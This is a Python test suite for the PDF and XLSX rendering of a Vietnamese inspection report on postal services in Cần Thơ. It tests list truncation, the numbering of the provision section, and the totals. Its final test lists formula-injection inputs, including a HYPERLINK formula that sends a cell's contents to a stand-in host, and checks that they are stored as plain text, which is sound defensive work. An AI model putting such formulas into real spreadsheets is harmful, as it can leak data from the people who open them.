"""The report's documents: a long list is cut in the PDF, never in the spreadsheet; the post
offices' own reports form a numbered part with their figures and totals."""

from __future__ import annotations

import io
import zipfile
from dataclasses import replace
from datetime import date

from openpyxl import load_workbook
from pypdf import PdfReader

from inspection.provision.deadline import ProvisionRow, ProvisionSummary
from inspection.reports import Figures, Remediation, ReportData
from workers.documents.model import IssuingBody, Signer
from workers.documents.report import render_report_pdf, render_report_xlsx
from workers.documents.report_model import Column, DataTable, Format, Part, StatReport
from workers.reports import statement


def report_with_overdue(count: int, limit: int) -> StatReport:
    table = DataTable("Quá hạn", "Phát hiện quá hạn chưa khắc phục",
                      (Column("STT", 15, Format.INTEGER), Column("Cơ sở", 80)),
                      tuple((n, f"Bưu cục số {n}") for n in range(1, count + 1)),
                      pdf_limit=limit)
    return StatReport(
        body=IssuingBody("UBND THÀNH PHỐ CẦN THƠ", "Sở Khoa học và Công nghệ", "SKHCN",
                         "Cần Thơ"),
        issued_on=date(2026, 11, 23), subject="Kết quả kiểm tra năm 2026",
        intro="Báo cáo thử.", parts=(Part("III. KẾT QUẢ KHẮC PHỤC", ("Danh sách.",), (table,)),),
        recipients=("Lưu: VT.",), signer=Signer("Phó Giám đốc", "", "KT. Giám đốc"))


def test_a_list_longer_than_the_pdf_limit_is_cut_there_and_whole_in_the_xlsx():
    report = report_with_overdue(count=12, limit=5)
    text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(render_report_pdf(report)))
                    .pages)
    assert "Bưu cục số 5" in text and "Bưu cục số 6" not in text
    assert "và 7 dòng khác" in text and "XLSX" in text
    sheet = load_workbook(io.BytesIO(render_report_xlsx(report)))["Quá hạn"]
    names = [c.value for c in sheet["B"] if isinstance(c.value, str) and "số" in c.value]
    assert names == [f"Bưu cục số {n}" for n in range(1, 13)]


def test_a_list_within_the_limit_has_no_note():
    report = report_with_overdue(count=3, limit=5)
    text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(render_report_pdf(report)))
                    .pages)
    assert "Bưu cục số 3" in text and "dòng khác" not in text


def test_the_provision_section_numbers_in_order_with_dashes_and_totals():
    nothing = Figures(0, 0, (), 0, (), (), (), Remediation(0, 0, 0, 0), ())
    provided = ProvisionSummary(2026, date(2026, 12, 10), (
        ProvisionRow("Bưu điện thành phố Cần Thơ", "accepted", date(2026, 12, 12),
                     date(2026, 12, 12), False, 1_234_567, 234_567, 45, 12_345_678_900, 2),
        ProvisionRow("Chi nhánh Bưu chính Viettel Cần Thơ", "submitted", date(2026, 12, 9),
                     None, True, 1_000, 1_000, 5, 100_000_000, 0),
        ProvisionRow("Bưu điện Cái Răng", None, None, None, False)))
    data = ReportData("annual", "92", "Thành phố Cần Thơ", 2026, None, date(2026, 12, 20),
                      nothing, nothing, provided)
    body = IssuingBody("UBND THÀNH PHỐ CẦN THƠ", "Sở Khoa học và Công nghệ", "SKHCN", "Cần Thơ")
    report = statement(data, body, issued_on=date(2026, 12, 20))
    assert [p.heading.split(".")[0] for p in report.parts] == ["I", "II", "III", "IV", "V"]
    text = " ".join(" ".join(p.extract_text().split())
                    for p in PdfReader(io.BytesIO(render_report_pdf(report))).pages)
    for phrase in ("IV. TÌNH HÌNH CUNG CẤP DỊCH VỤ BƯU CHÍNH KT1", "V. SO SÁNH VỚI NĂM 2025",
                   "Trên địa bàn có 3 đơn vị", "2 đơn vị đã gửi báo cáo năm 2026",
                   "trong đó 1 đơn vị gửi đúng hạn, 1 đơn vị gửi sau hạn",
                   "1 đơn vị chưa gửi báo cáo", "1.235.567 bưu gửi", "12.445.678.900 đồng",
                   "Trễ hạn", "Đúng hạn", "Chưa lập", "Đã gửi, chờ tiếp nhận", "12/12/2026"):
        assert phrase in text, phrase
    sheet = load_workbook(io.BytesIO(render_report_xlsx(report)))["Số liệu cung cấp KT1"]
    rows = list(sheet.iter_rows(min_row=4, values_only=True))
    assert rows[-1] == ("Tổng cộng", 1_235_567, 235_567, 50, 12_445_678_900, 2)
    assert rows[2] == ("Bưu điện Cái Răng", None, None, None, None, None)


HOSTILE = ('=HYPERLINK("https://example.invalid/?q="&A1,"Bấm vào đây")', "+84 292 3821 234",
           "-1+2", "@SUM(A1:A9)", "\tTab", "\rCR", "=1+1")


def test_text_that_looks_like_a_formula_is_written_as_text_never_as_a_formula():
    table = DataTable("Cơ sở", "=Tiêu đề do người dùng đặt",
                      (Column("STT", 15, Format.INTEGER), Column("=Cơ sở", 80)),
                      tuple((n, text) for n, text in enumerate(HOSTILE, 1)))
    data = render_report_xlsx(replace(report_with_overdue(0, 5), parts=(
        Part("I. CƠ SỞ", ("Danh sách.",), (table,)),), subject="=Kết quả"))
    sheet = load_workbook(io.BytesIO(data))["Cơ sở"]
    cells = [sheet.cell(row, 2) for row in range(4, 4 + len(HOSTILE))]
    assert [c.value for c in cells] == list(HOSTILE)
    for c in (*cells, sheet["A1"], sheet["B3"]):
        assert c.data_type == "s", (c.coordinate, c.value)
        assert c.quotePrefix, c.coordinate  # a spreadsheet edits it as text, too
    assert sheet["A2"].data_type == "s" and not sheet["A2"].quotePrefix
    assert sheet["A4"].value == 1 and sheet["A4"].data_type == "n"
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert "<f>" not in package.read("xl/worksheets/sheet1.xml").decode()
